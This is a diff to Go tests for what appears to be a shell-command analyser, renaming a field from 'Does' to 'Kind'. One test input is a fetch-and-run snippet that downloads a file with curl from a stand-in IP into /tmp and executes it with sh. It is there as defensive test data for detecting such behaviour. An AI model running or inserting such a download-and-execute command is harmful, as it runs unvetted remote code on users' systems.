@@ -24,7 +24,7 @@ func FuzzCode(f *testing.F) {
 			r.readCode(language, []byte(text), 0)
 			for _, a := range r.Reading.Acts {
 				if a.At.Start < 0 || a.At.End < a.At.Start || a.At.End > len(text) {
-					t.Errorf("%s: act %d at %v, of %d bytes", language, a.Does, a.At, len(text))
+					t.Errorf("%s: act %d at %v, of %d bytes", language, a.Kind, a.At, len(text))
 				}
 			}
 		}
@@ -43,7 +43,7 @@ func TestUncalledFunctions(t *testing.T) {
 	for range 20 {
 		runs := 0
 		for _, a := range CommandsIn("get() { curl -o /tmp/x http://192.0.2.7/a; }\nrun() { sh /tmp/x; }\n") {
-			if a.Does == Runs {
+			if a.Kind == Runs {
 				runs++
 			}
 		}
@@ -59,7 +59,7 @@ func TestPackages(t *testing.T) {
 	} {
 		got := ""
 		for _, a := range CommandsIn(text) {
-			if a.Does == Installs {
+			if a.Kind == Installs {
 				got = a.To
 			}
 		}
